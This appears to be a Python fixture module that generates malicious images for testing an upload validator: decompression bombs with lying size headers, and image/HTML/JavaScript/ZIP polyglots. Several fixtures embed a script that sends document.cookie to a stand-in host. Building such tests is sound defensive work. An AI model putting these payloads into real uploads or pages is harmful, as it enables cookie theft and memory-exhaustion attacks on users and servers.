"""Pictures made to harm whoever decodes them, and files that are two things at once."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

import cv2
import numpy as np

HTML = b"<script>fetch('https://evil.test/'+document.cookie)</script>"
SIDE = 50_000


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk with its right checksum."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, rows: int | None = None, more: bytes = b"") -> bytes:
    """A grey PNG of zeros, compressed as far as it goes; `rows` of it are there, all by default."""
    packer = zlib.compressobj(9)
    count = height if rows is None else rows
    packed = b"".join(packer.compress(bytes(width + 1)) for _ in range(count)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = (png_chunk(b"IHDR", head), more, png_chunk(b"IDAT", packed), png_chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def jpeg(width: int = 16, height: int = 16) -> bytes:
    """A small whole JPEG."""
    return cv2.imencode(".jpg", np.full((height, width, 3), 90, np.uint8))[1].tobytes()


def jpeg_said_to_be(width: int, height: int) -> bytes:
    """A small JPEG whose header says another size."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_a_second_size() -> bytes:
    """A frame header of 16 by 16 pixels, and a second, huge one behind it."""
    data = jpeg()
    at = data.index(b"\xff\xc0")
    (length,) = struct.unpack_from(">H", data, at + 2)
    first = data[at : at + 2 + length]
    second = first[:5] + struct.pack(">HH", 65_000, 65_000) + first[9:]
    return data[: at + 2 + length] + second + data[at + 2 + length :]


def jpeg_of_many_scans() -> bytes:
    """The same scan over and over: each is work for the decoder."""
    data = jpeg()
    scan = data[data.index(b"\xff\xda") : -2]
    return data[:-2] + scan * 5_000 + b"\xff\xd9"


def gif(width: int, height: int, *, frame_wh: tuple[int, int] | None = None, frames: int = 1) -> bytes:
    """A GIF whose frames hold one pixel's worth of data, of the canvas's size unless told otherwise."""
    frame_width, frame_height = frame_wh or (width, height)
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"," + struct.pack("<HHHHB", 0, 0, frame_width, frame_height, 0) + b"\x02\x02\x44\x01\x00"
    return head + frame * frames + b";"


def webp(canvas_wh: tuple[int, int], *, real_wh: tuple[int, int] = (16, 16)) -> bytes:
    """A WebP whose extended header says one size, and whose picture is of another."""
    inner = cv2.imencode(
        ".webp", np.zeros((real_wh[1], real_wh[0], 3), np.uint8), [cv2.IMWRITE_WEBP_QUALITY, 1]
    )[1]
    chunks = inner.tobytes()[12:]
    size = b"".join((side - 1).to_bytes(3, "little") for side in canvas_wh)
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + bytes(4) + size + chunks
    return b"RIFF" + struct.pack("<I", len(body)) + body


def bmp(width: int, height: int) -> bytes:
    """The header of a BMP with nothing behind it."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + info


def tiff(width: int, height: int) -> bytes:
    """A TIFF of that size, which is no format taken here."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (273, 4, 1, 8)]
    packed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + packed + bytes(4)


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{HTML.decode()}</svg>'.encode()
BOMBS: dict[str, Callable[[], bytes]] = {
    "PNG of 50000 × 50000": lambda: png(SIDE, SIDE, rows=2_000),
    "PNG that says it is endless": lambda: png(2**31 - 1, 2**31 - 1, rows=0),
    "PNG with a size that overflows": lambda: png(2**32 - 1, 2**32 - 1, rows=0),
    "JPEG said to be 65000 × 65000": lambda: jpeg_said_to_be(65_000, 65_000),
    "JPEG said to be just small enough": lambda: jpeg_said_to_be(7_000, 7_000),
    "JPEG with a second, huge size": jpeg_with_a_second_size,
    "JPEG of 5000 scans": jpeg_of_many_scans,
    "GIF of 65000 × 65000": lambda: gif(65_000, 65_000),
    "GIF with a frame larger than itself": lambda: gif(8, 8, frame_wh=(65_000, 65_000)),
    "GIF said to be just small enough, of 100000 frames": lambda: gif(7_000, 7_000, frames=100_000),
    "WebP of 16777216 × 16777216": lambda: webp((1 << 24, 1 << 24)),
    "WebP larger than it says": lambda: webp((8, 8), real_wh=(8_000, 8_000)),
    "BMP of 60000 × 60000": lambda: bmp(60_000, 60_000),
    "BMP upside down, of the lowest number": lambda: bmp(-(2**31), -(2**31)),
    "BMP said to be just small enough": lambda: bmp(7_000, 7_000),
    "TIFF of 60000 × 60000": lambda: tiff(60_000, 60_000),
    "SVG with a script": lambda: SVG,
    "SVG behind a byte order mark": lambda: b"\xef\xbb\xbf" + SVG,
    "HTML": lambda: b"<!doctype html>" + HTML,
    "GIF that is JavaScript": lambda: b"GIF89a/*" + HTML + b"*/=1;alert(1)",
    "ZIP": lambda: b"PK\x03\x04" + bytes(40),
    "PDF": lambda: b"%PDF-1.7\n" + bytes(40),
    "a JPEG's first half": lambda: jpeg(256, 256)[:300],
    "a JPEG's signature": lambda: b"\xff\xd8\xff",
    "nothing": lambda: b"",
    "zeros": lambda: bytes(100_000),
}
"""Each must be refused, at once and for little memory."""

POLYGLOTS: dict[str, Callable[[], bytes]] = {
    "JPEG with a page behind it": lambda: jpeg() + HTML,
    "JPEG with a ZIP behind it": lambda: jpeg() + b"PK\x05\x06" + bytes(18),
    "PNG with a page in a comment": lambda: png(8, 8, more=png_chunk(b"tEXt", b"x\0" + HTML)),
    "PNG with texts that unpack to 1 GB": lambda: png(
        8, 8, more=png_chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(200_000_000), 9)) * 5
    ),
    "PNG with a profile that unpacks to 200 MB": lambda: png(
        8, 8, more=png_chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(200_000_000), 9))
    ),
    "PNG with a page behind it": lambda: png(8, 8) + HTML,
}
"""Pictures that are something else too. Taken as pictures or refused, and never served as the other thing."""
